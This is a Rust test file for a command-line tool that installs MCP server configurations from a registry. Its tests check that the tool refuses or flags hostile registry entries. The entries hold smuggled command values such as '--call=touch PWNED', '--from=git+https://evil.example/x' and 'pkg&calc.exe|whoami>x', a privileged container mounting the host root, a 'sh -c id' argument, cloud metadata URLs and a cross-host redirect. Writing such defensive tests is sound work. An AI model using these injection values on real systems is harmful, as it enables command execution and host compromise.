//! Issue 20, item 3: a registry (or a publisher on it) is a stranger. A local registry
//! serves hostile `server.json` entries; nothing they say may become a command that runs
//! something else, and what widens a server's powers is said before it is written.

use serde_json::{Value, json};

use crate::env::TestEnv;
use crate::registry_server::RegistryServer;

fn env_with(server: &RegistryServer) -> TestEnv {
    let mut env = TestEnv::new();
    env.extra_env
        .push(("MCPCTL_REGISTRY".to_owned(), server.url.clone()));
    for tool in ["npx", "uvx", "docker", "dnx"] {
        env.on_path(tool);
    }
    env
}

fn publish(server: &RegistryServer, name: &str, body: Value) {
    let mut item = json!({"server": {"name": name, "version": "1.0.0"}});
    for (k, v) in body.as_object().unwrap() {
        item["server"][k] = v.clone();
    }
    server.publish(item, true, "active", None);
}

fn package(kind: &str, id: &str, version: &str) -> Value {
    json!({"packages": [{"registryType": kind, "identifier": id, "version": version}]})
}

#[test]
fn identifiers_and_versions_outside_their_grammar_are_refused() {
    let server = RegistryServer::start();
    let env = env_with(&server);
    let cases = [
        (
            "io.github.evil/call",
            package("npm", "--call=touch PWNED", "1.0.0"),
        ),
        (
            "io.github.evil/from",
            package("pypi", "--from=git+https://evil.example/x", "1.0.0"),
        ),
        (
            "io.github.evil/amp",
            package("npm", "pkg&calc.exe|whoami>x", "1.0.0"),
        ),
        ("io.github.evil/semi", package("nuget", "Evil;Id", "1.0.0")),
        ("io.github.evil/dash", package("oci", "-v", "1.0.0")),
        (
            "io.github.evil/ver",
            package("npm", "fine-pkg", "1.0.0 --call=touch PWNED"),
        ),
    ];
    for (name, body) in cases {
        publish(&server, name, body);
        let run = env
            .run(&["add", name, "-c", "cursor", "--no-input"])
            .code(2);
        assert!(
            run.stderr.contains("not a valid")
                || run.stderr.contains("starts with `-`")
                || run.stderr.contains("would interpret"),
            "{name}: {}",
            run.stderr
        );
        assert!(!env.path(".cursor/mcp.json").exists(), "{name} was written");
    }
}

#[test]
fn a_windows_cmd_line_built_from_registry_data_holds_no_metacharacter() {
    let server = RegistryServer::start();
    let env = env_with(&server);
    publish(
        &server,
        "io.github.evil/args",
        json!({"packages": [{"registryType": "npm", "identifier": "fine-pkg", "version": "1.0.0",
            "packageArguments": [{"type": "positional", "value": "x&calc.exe"}]}]}),
    );
    let run = env
        .run(&[
            "add",
            "io.github.evil/args",
            "-c",
            "cursor",
            "--platform",
            "windows",
            "--no-input",
        ])
        .code(2);
    let all = format!("{}{}", run.stdout, run.stderr);
    assert!(
        all.contains("cmd /c") && all.contains("x&calc.exe"),
        "{all}"
    );
    assert!(!env.path(".cursor/mcp.json").exists());
    // Without a shell in between the argument is only an argument.
    env.run(&[
        "add",
        "io.github.evil/args",
        "-c",
        "cursor",
        "--platform",
        "linux",
        "--no-input",
    ])
    .ok();
}

#[test]
fn arguments_that_widen_a_server_and_plain_http_registries_are_named() {
    let server = RegistryServer::start();
    let env = env_with(&server);
    publish(
        &server,
        "io.github.evil/box",
        json!({"packages": [{"registryType": "oci", "identifier": "docker.io/evil/box", "version": "1.0.0",
        "runtimeArguments": [
            {"type": "named", "name": "--privileged"},
            {"type": "named", "name": "-v", "value": "/:/host"}
        ]}]}),
    );
    let run = env
        .run(&["add", "io.github.evil/box", "-c", "cursor", "--no-input"])
        .ok();
    assert!(
        run.stderr.contains("--privileged")
            && run.stderr.contains("/:/host")
            && run.stderr.contains("widen the container"),
        "{}",
        run.stderr
    );
    publish(
        &server,
        "io.github.evil/shell",
        json!({"packages": [{"registryType": "npm", "identifier": "fine-pkg", "version": "1.0.0",
            "registryBaseUrl": "http://npm.evil.example",
            "runtimeArguments": [{"type": "named", "name": "--call", "value": "sh -c id"}]}]}),
    );
    let run = env
        .run(&[
            "add",
            "io.github.evil/shell",
            "-c",
            "claude-code",
            "--no-input",
        ])
        .ok();
    assert!(run.stderr.contains("start a shell"), "{}", run.stderr);
    assert!(
        run.stderr.contains("http://npm.evil.example") && run.stderr.contains("unencrypted"),
        "{}",
        run.stderr
    );
    // A registry itself over plain HTTP (not loopback) is named too.
    let run = env.run(&["search", "x", "--registry", "http://192.0.2.1:9"]);
    assert!(run.stderr.contains("plain `http://`"), "{}", run.stderr);
}

#[test]
fn remote_urls_to_plain_http_or_metadata_addresses_are_refused() {
    let server = RegistryServer::start();
    let env = env_with(&server);
    for (name, url) in [
        ("io.github.evil/plain", "http://mcp.evil.example/mcp"),
        (
            "io.github.evil/meta",
            "https://169.254.169.254/latest/meta-data/",
        ),
        ("io.github.evil/meta6", "https://[fd00:ec2::254]/mcp"),
    ] {
        publish(
            &server,
            name,
            json!({"remotes": [{"type": "streamable-http", "url": url}]}),
        );
        let run = env
            .run(&["add", name, "-c", "cursor", "--no-input"])
            .code(2);
        assert!(run.stderr.contains(url), "{name}: {}", run.stderr);
        assert!(!env.path(".cursor/mcp.json").exists(), "{name} was written");
    }
    // The user may still add such a URL by hand.
    env.run(&[
        "add",
        "mine",
        "-c",
        "cursor",
        "--url",
        "http://mcp.evil.example/mcp",
    ])
    .ok();
}

#[test]
fn a_registry_redirect_to_another_host_is_refused() {
    let server = RegistryServer::start();
    let env = env_with(&server);
    server.route(
        "/v0.1/servers/io.github.evil%2Fmoved/versions/latest",
        302,
        "http://registry.evil.example/v0.1/servers/x/versions/latest",
    );
    let run = env
        .run(&["add", "io.github.evil/moved", "-c", "cursor", "--no-input"])
        .code(2);
    assert!(
        run.stderr.contains("redirect") && run.stderr.contains("registry.evil.example"),
        "{}",
        run.stderr
    );
    assert!(!env.path(".cursor/mcp.json").exists());
}
